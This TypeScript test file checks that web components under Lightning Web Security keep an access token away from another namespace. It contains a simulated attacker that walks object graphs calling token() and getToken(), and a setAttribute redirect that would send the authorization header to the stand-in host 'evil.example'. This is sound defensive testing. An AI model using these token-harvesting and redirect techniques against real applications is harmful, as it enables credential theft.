import '../support/lws-gates.js';
import { expect, fixture, html } from '@open-wc/testing';
import { HttpResponse, http } from 'msw';
import { loadStaticResource, runInSandbox } from '../support/lws-sandbox.js';
import { ordersCredentialElement, sandboxLib } from '../support/lws-sandbox-kit.js';
import { useMsw } from '../support/msw-worker.js';

const api = useMsw();
const token = 'secret-token-of-namespace-c';

/**
 * Inside namespace `c` (ours): one client (with `allowedOrigins` when given) with a provider that
 * issues {@link token}, and a
 * `<callout-credential>`, `<callout-get>`, `<callout-login>` and `<callout-log>` on it, mounted into
 * the host's container after the data came back. Only this function's text (and the sandbox
 * kit's) enters the sandbox.
 */
async function mountInOurNamespace(context: {
  container: HTMLElement;
  token: string;
  allowedOrigins?: string[];
}): Promise<string> {
  const lib = sandboxLib();
  const callout = lib.createCallout({
    crossTab: false,
    ...(context.allowedOrigins ? { allowedOrigins: context.allowedOrigins } : {}),
    providers: {
      aad: lib.functionProvider(async () => ({
        accessToken: context.token,
        expiresOn: Date.now() + 3_600_000,
      })),
    },
  });
  const credential = ordersCredentialElement();
  const get = document.createElement('callout-get');
  get.setAttribute('credential', 'Orders');
  get.setAttribute('path', 'orders');
  const elements = [
    credential,
    get,
    document.createElement('callout-login'),
    document.createElement('callout-log'),
  ];
  for (const element of elements) element.callout = callout;
  const done = new Promise<string>((resolve) => {
    get.addEventListener('callout-response', () => resolve('data'), { once: true });
    get.addEventListener('callout-error', () => resolve('error'), { once: true });
  });
  for (const element of elements) context.container.appendChild(element);
  return done;
}

/**
 * Inside another namespace: walks everything reachable from each `callout-*` element in the
 * container — own properties, getters of non-built-in prototypes, Map/Set entries, nodes below —
 * calls every `token()` and `getToken()` it finds, and reports what yielded a token or a way to
 * one. Self-contained: only its text enters the sandbox.
 */
async function stealFromAnotherNamespace(context: {
  container: HTMLElement;
  token: string;
}): Promise<string[]> {
  const found: string[] = [];
  const attempts: Promise<void>[] = [];
  // Built-in prototypes by identity: LWS may show other namespaces' functions as native code.
  const builtIns = new Set<unknown>(
    [Object, Function, Array, Map, Set, Promise, Error, EventTarget, Node, Element, HTMLElement].map(
      (type) => type.prototype,
    ),
  );
  const native = (proto: object) => builtIns.has(proto);
  const tryToken = (path: string, call: () => unknown) => {
    attempts.push(
      Promise.resolve()
        .then(call)
        .then(
          (result) => {
            if (JSON.stringify(result ?? null).includes(context.token)) found.push(`${path} gave the token`);
          },
          () => {},
        ),
    );
  };
  for (const start of context.container.querySelectorAll('*')) {
    const seen = new Set<unknown>();
    const queue: [unknown, string][] = [[start, start.localName]];
    while (queue.length > 0 && seen.size < 50_000) {
      const [value, path] = queue.shift()!;
      if (typeof value === 'string' && value.includes(context.token)) found.push(`${path} is the token`);
      if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value))
        continue;
      seen.add(value);
      const candidate = value as { token?: unknown; getToken?: unknown };
      if (typeof candidate.token === 'function') {
        found.push(`${path}.token()`);
        tryToken(`${path}.token('Orders')`, () => (candidate.token as (n: string) => unknown)('Orders'));
      }
      if (typeof candidate.getToken === 'function') {
        found.push(`${path}.getToken()`);
        tryToken(`${path}.getToken()`, () =>
          (candidate.getToken as (r: unknown) => unknown)({ scopes: ['api://orders/Orders.Read'] }),
        );
      }
      if (value instanceof Node) {
        for (const [i, child] of [...value.childNodes].entries())
          queue.push([child, `${path}.childNodes[${i}]`]);
      }
      if (value instanceof Map)
        for (const [k, v] of value) queue.push([k, `${path}.<key>`], [v, `${path}.<value>`]);
      if (value instanceof Set) for (const item of value) queue.push([item, `${path}.<item>`]);
      const keys = new Set<PropertyKey>(Reflect.ownKeys(value));
      for (
        let proto = Object.getPrototypeOf(value);
        proto && !native(proto);
        proto = Object.getPrototypeOf(proto)
      ) {
        for (const key of Reflect.ownKeys(proto))
          if (Object.getOwnPropertyDescriptor(proto, key)?.get) keys.add(key);
      }
      for (const key of keys) {
        if (key === 'constructor') continue;
        try {
          queue.push([Reflect.get(value, key, value), `${path}.${String(key)}`]);
        } catch {}
      }
    }
    if (queue.length > 0) found.push(`${start.localName}: walk stopped early`);
  }
  await Promise.all(attempts);
  return found;
}

describe('callout-* elements seen from another namespace under Lightning Web Security (gated)', () => {
  before(() => loadStaticResource('eval'));

  it('another namespace that reaches the elements finds no client, provider or token through any property.', async () => {
    api.use(http.get('https://api.contoso.test/v1/orders', () => HttpResponse.json([{ sku: 'A1' }])));
    const container = await fixture<HTMLDivElement>(html`<div></div>`);
    expect(await runInSandbox(mountInOurNamespace, { container, token })).to.equal('data');
    const found = await runInSandbox(stealFromAnotherNamespace, { container, token }, { namespace: 'evil' });
    expect(found).to.deep.equal([]);
  });

  it('another namespace that re-points our <callout-credential> by setAttribute gets nothing when the client lists its allowed origins.', async () => {
    const evil: string[] = [];
    api.use(
      http.get('https://api.contoso.test/v1/orders', () => HttpResponse.json([{ sku: 'A1' }])),
      http.all('https://evil.example/*', ({ request }) => {
        evil.push(request.headers.get('authorization') ?? 'no token');
        return HttpResponse.json([]);
      }),
    );
    const container = await fixture<HTMLDivElement>(html`<div></div>`);
    const allowedOrigins = ['https://api.contoso.test'];
    expect(await runInSandbox(mountInOurNamespace, { container, token, allowedOrigins })).to.equal('data');
    const states = await runInSandbox(
      async (context: { container: HTMLElement }) => {
        const credential = context.container.querySelector('callout-credential')!;
        const get = context.container.querySelector('callout-get') as HTMLElement & {
          refresh(): Promise<void>;
          state: string;
        };
        credential.setAttribute('url', 'https://evil.example/');
        await new Promise((resolve) => setTimeout(resolve, 50));
        await get.refresh();
        return [credential.hasAttribute('invalid') ? 'invalid' : 'valid', get.state];
      },
      { container },
      { namespace: 'evil' },
    );
    expect(evil).to.deep.equal([]);
    expect(states).to.deep.equal(['invalid', 'error']);
  });
});
